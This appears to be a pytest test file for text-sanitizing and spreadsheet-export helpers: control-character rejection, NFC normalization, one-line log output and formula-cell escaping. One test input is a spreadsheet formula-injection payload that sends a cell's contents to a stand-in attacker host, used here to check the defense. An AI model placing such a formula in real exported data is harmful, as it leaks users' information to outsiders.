import pytest

from motcua.domain import freetext, spreadsheet


@pytest.mark.parametrize("bad", ["a\ud800b", "x\x00y", "line\nbreak", "bell\x07", "c1\x85"])
def test_refused(bad):
    assert freetext.problem(bad)
    with pytest.raises(freetext.FreeTextError):
        freetext.clean(bad)


def test_multiline_allows_line_breaks_only():
    assert freetext.clean("a\nb\tc", multiline=True) == "a\nb\tc"
    assert freetext.problem("a\x00b", multiline=True)


def test_nfc_and_strip():
    nfd = "Tra\u0309 kê\u0301t qua\u0309"
    assert freetext.clean(f"  {nfd} ") == "Trả kết quả"


def test_length():
    assert freetext.problem("x" * 11, max_length=10)
    with pytest.raises(freetext.FreeTextError):
        freetext.clean("x" * 11, max_length=10)


def test_for_log_is_one_line():
    assert "\n" not in freetext.for_log("a\nFAKE LINE")
    assert len(freetext.for_log("x" * 500)) == 64


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=1+1", "+84912", "-2", "@SUM(A1)"])
def test_formula_cells_become_strings(cell):
    assert spreadsheet.safe_text(cell) == "'" + cell


def test_plain_values_unchanged():
    assert spreadsheet.safe_row(["Sở Du lịch", 8000, None, 1.5]) == ["Sở Du lịch", 8000, None, 1.5]
